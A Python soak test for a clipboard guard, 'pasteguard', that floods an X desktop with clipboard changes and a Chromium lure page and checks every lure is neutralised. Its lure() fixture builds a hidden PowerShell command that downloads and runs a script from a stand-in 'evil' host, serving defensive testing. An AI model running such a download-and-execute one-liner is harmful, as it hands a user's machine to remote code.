"""The guard under load on a real X desktop (marked `soak`; it runs in `make test`, < 2 min).

1,000 clipboard changes from another program at 20 a second, lures, re-copies of the same lures
and ordinary text mixed: every lure is neutralised (a re-copy too), no ordinary text is
touched, memory grows by at most 5 MB and the CPU is idle again within 2 s. Then a real
Chromium lure page clicked 20 times: 20 neutralised events naming the page.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest

from tests.desktop import BIN, REPO, Desktop, wait_for
from tests.ui.test_guard_desktop import (  # noqa: F401 - `guard` is the fixture
    PAGE,
    chromium_title,
    events,
    guard,
    serve,
    start_chromium,
)

pytestmark = [pytest.mark.desktop, pytest.mark.soak]

CHANGES = 1000
RATE = 20.0
LURES = 40  # distinct lures; each comes back (a re-copy) several times


def lure(n: int) -> str:
    return f'powershell -w h -c "iwr https://evil{n}.test/a.ps1 | iex"'


def plan() -> list[str]:
    texts = []
    for i in range(CHANGES):
        if i % 5 == 0:
            texts.append(lure((i // 5) % LURES))  # 200 lures: 40 texts, each copied 5 times
        else:
            texts.append(f"Meeting notes {i}: lunch at noon, the usual place.")
    return texts


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def cpu_seconds(proc: psutil.Process) -> float:
    times = proc.cpu_times()
    return float(times.user + times.system)


def test_a_thousand_changes_at_20_a_second_then_20_clicks_on_a_chromium_lure_page(
    guard: tuple[Desktop, Path],  # noqa: F811 - the fixture imported above
    tmp_path: Path,
) -> None:
    d, data = guard
    guard_pid = int(json.loads(d.run(str(BIN / "pasteguard"), "status", "--data-dir",
                                     str(data)).stdout)["pid"])  # fmt: skip
    proc = psutil.Process(guard_pid)

    def neutralised(after: int = 0) -> list[dict[str, object]]:
        found = [e for e in events(d, data) if e["kind"] == "clipboard_neutralized"]
        return sorted(
            (e for e in found if int(str(e["id"])) > after), key=lambda e: int(str(e["id"]))
        )

    texts = plan()
    (tmp_path / "plan.json").write_text(json.dumps(texts), encoding="utf-8")
    report = tmp_path / "report.json"
    # warm up (rules, first analyses, the store), then measure memory from here
    (tmp_path / "warm.json").write_text(json.dumps(texts[:100]), encoding="utf-8")
    subprocess.run(
        [sys.executable, "-m", "tests.churn", d.display, str(tmp_path / "warm.json"),
         str(RATE), str(tmp_path / "warmed.json")],
        cwd=REPO, timeout=60, check=True,
    )  # fmt: skip
    wait_for(lambda: len(neutralised()) >= 20, timeout=30, step=0.5)
    first_id = max(int(str(e["id"])) for e in events(d, data))
    rss_before = proc.memory_info().rss
    churn = subprocess.run(
        [sys.executable, "-m", "tests.churn", d.display, str(tmp_path / "plan.json"),
         str(RATE), str(report)],
        cwd=REPO, timeout=120, check=True,
    )  # fmt: skip
    assert churn.returncode == 0
    ended = time.monotonic()
    churned = json.loads(report.read_text())
    lost = churned["lost"]
    latencies = sorted(a for a in churned["after"] if a is not None)
    shown = f"neutralised after (s): median {latencies[len(latencies) // 2]:.3f}, " + (
        f"p95 {latencies[int(len(latencies) * 0.95)]:.3f}, max {latencies[-1]:.3f}"
    )
    print(shown)
    # CPU back to idle within 2 s of the last change
    time.sleep(max(0.0, ended + 2.0 - time.monotonic()))
    before = cpu_seconds(proc)
    time.sleep(1.0)
    idle_share = cpu_seconds(proc) - before
    rss_growth = (proc.memory_info().rss - rss_before) / 2**20

    lure_turns = [i for i, t in enumerate(texts) if t.startswith("powershell")]
    ordinary_turns = [i for i, t in enumerate(texts) if not t.startswith("powershell")]
    missed = [i for i in lure_turns if not lost[i]]
    assert missed == [], shown  # every lure taken off the clipboard
    assert [i for i in ordinary_turns if lost[i]] == []  # no ordinary text touched

    # every copy of a lure judged again: 40 lures, each copied 5 times
    wait_for(lambda: len(neutralised(first_id)) >= len(lure_turns), timeout=30, step=0.5)
    counts: dict[object, int] = {}
    for event in neutralised(first_id):
        counts[event["sha256"]] = counts.get(event["sha256"], 0) + 1
    assert counts == {sha256(lure(n)): CHANGES // 5 // LURES for n in range(LURES)}
    assert rss_growth <= 5.0, f"resident memory grew by {rss_growth:.1f} MB"
    assert idle_share <= 0.05, f"{idle_share:.2f} s of CPU in the second after the burst"

    # a real Chromium lure page clicked 20 times in a row
    server, url = serve(PAGE)
    try:
        start_chromium(d, tmp_path / "chrome", f"--app={url}")
        wait_for(lambda: chromium_title(d).strip(), timeout=30, step=0.2)
        time.sleep(2.0)
        before_clicks = max(int(str(e["id"])) for e in events(d, data))
        for click in range(20):
            d.run("xdotool", "mousemove", "640", "400", "click", "1")
            wait_for(lambda c=click: len(neutralised(before_clicks)) > c, timeout=10, step=0.1)
        clicked = neutralised(before_clicks)
        assert len(clicked) == 20 and all(e["source"] == url for e in clicked)
    finally:
        server.shutdown()
        server.server_close()
